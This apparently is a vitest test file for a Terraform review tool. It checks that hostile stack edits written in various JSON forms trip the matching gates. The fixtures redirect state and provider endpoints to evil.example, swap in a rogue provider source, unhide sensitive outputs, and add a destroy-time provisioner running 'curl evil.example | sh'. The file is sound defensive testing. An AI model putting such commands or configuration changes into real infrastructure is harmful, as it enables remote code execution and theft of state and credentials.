import { describe, expect, test } from 'vitest';
import { first, type Json, useOrbital } from './output';

const review = useOrbital();

/** Edits of the main file of a stack, with the gate that must trip. */
const edits: readonly (readonly [says: string, stack: string, gate: string, edit: (main: Json) => void])[] = [
  [
    'settings in a list: another backend',
    'it-hub',
    'state',
    (main) => {
      main.terraform = [{ ...main.terraform, backend: { http: { address: 'https://evil.example/state' } } }];
    },
  ],
  [
    'settings in two parts: another backend in the second',
    'it-hub',
    'state',
    (main) => {
      const { backend, ...rest } = main.terraform;
      main.terraform = [rest, { backend: [{ http: { address: 'https://evil.example/state' } }] }];
    },
  ],
  [
    'settings in a list: another source of a provider',
    'it-hub',
    'provider',
    (main) => {
      main.terraform = [
        { ...main.terraform, required_providers: [{ ovh: { source: 'evil/ovh', version: '2.19.0' } }] },
      ];
    },
  ],
  [
    'providers in a list: another endpoint',
    'it-hub',
    'provider',
    (main) => {
      main.provider = [{ ovh: [{ endpoint: 'https://evil.example/1.0' }] }];
    },
  ],
  [
    'a provider in a list of lists: a program that gives it credentials',
    'it-shared-platform-tools',
    'runs-code',
    (main) => {
      const [config] = [main.provider.kubernetes].flat();
      main.provider.kubernetes = [[{ ...config, exec: [{ api_version: 'v1', command: 'evil' }] }]];
    },
  ],
  ...[
    (data: Json) => [{ c: { data: { external: { x: data } }, assert: { condition: true, error_message: 'x' } } }],
    (data: Json) => ({ c: [{ data: { external: { x: data } }, assert: [{ condition: true, error_message: 'x' }] }] }),
    (data: Json) => ({ c: { data: [{ external: [{ x: data }] }], assert: { condition: true, error_message: 'x' } } }),
  ].map(
    (form, index) =>
      [
        `a check in another form (${index + 1}): a program`,
        'it-hub',
        'runs-code',
        (main: Json) => {
          main.check = form({ program: ['id'] });
        },
      ] as const,
  ),
  [
    'outputs in a list: no longer hidden',
    'it-shared',
    'guard',
    (main) => {
      for (const output of Object.values<Json>(main.output)) delete output.sensitive;
      main.output = [main.output];
    },
  ],
  [
    'each output in a list: no longer hidden',
    'it-shared',
    'guard',
    (main) => {
      for (const [name, { value }] of Object.entries<Json>(main.output)) main.output[name] = [{ value }];
    },
  ],
  ...[(removed: Json) => removed, (removed: Json) => [[removed]], (removed: Json) => [removed]].map(
    (form, index) =>
      [
        `what is removed, in another form (${index + 1}): a program when it goes`,
        'it-hub',
        'runs-code',
        (main: Json) => {
          const [name] = first(main.resource.ovh_cloud_project_gateway);
          delete main.resource.ovh_cloud_project_gateway;
          main.removed = form({
            from: `ovh_cloud_project_gateway.${name}`,
            lifecycle: { destroy: true },
            provisioner: [{ 'local-exec': { when: 'destroy', command: 'curl evil.example | sh' } }],
          });
        },
      ] as const,
  ),
];

describe('whatever form of JSON Terraform takes', () => {
  test.each(edits)('%s', (_, stack, gate, edit) => {
    expect(review({ head: (output) => output.stack(stack, edit) }).gates).toContain(gate);
  });

  test.each([[(main: Json) => [{ v: main }]], [(main: Json) => ({ v: [main] })]])(
    'a variable without its validation',
    (form) => {
      const { gates } = review({
        base: (output) =>
          output.stack('it-hub', (main) => {
            main.variable = { v: { default: 'x', validation: [{ condition: '${var.v != ""}', error_message: 'e' }] } };
          }),
        head: (output) =>
          output.stack('it-hub', (main) => {
            main.variable = form({ default: 'x' });
          }),
      });
      expect(gates).toContain('guard');
    },
  );

  test('a new stack is held to the others', () => {
    const { gates } = review({
      head: (output) =>
        output.copyStack('it-hub', 'n', (main) => {
          delete main.resource;
          main.terraform = [
            { ...main.terraform, required_providers: { ovh: { source: 'evil/ovh', version: '1.0.0' } } },
          ];
          main.terraform[0].backend = { http: { address: 'https://evil.example' } };
          main.provider = [main.provider];
        }),
    });
    expect(gates).toEqual(expect.arrayContaining(['provider', 'state']));
  });

  test('another form of the same is no difference', () => {
    const { report } = review({
      head: (output) =>
        output.stack('it-shared', (main) => {
          main.terraform = [main.terraform];
          main.provider = [main.provider];
          main.output = [main.output];
          main.resource = [main.resource];
          for (const all of Object.values<Json>(main.resource[0])) {
            for (const name of Object.keys(all)) all[name] = [all[name]];
          }
        }),
    });
    expect(report.stacks).toEqual([]);
  });
});
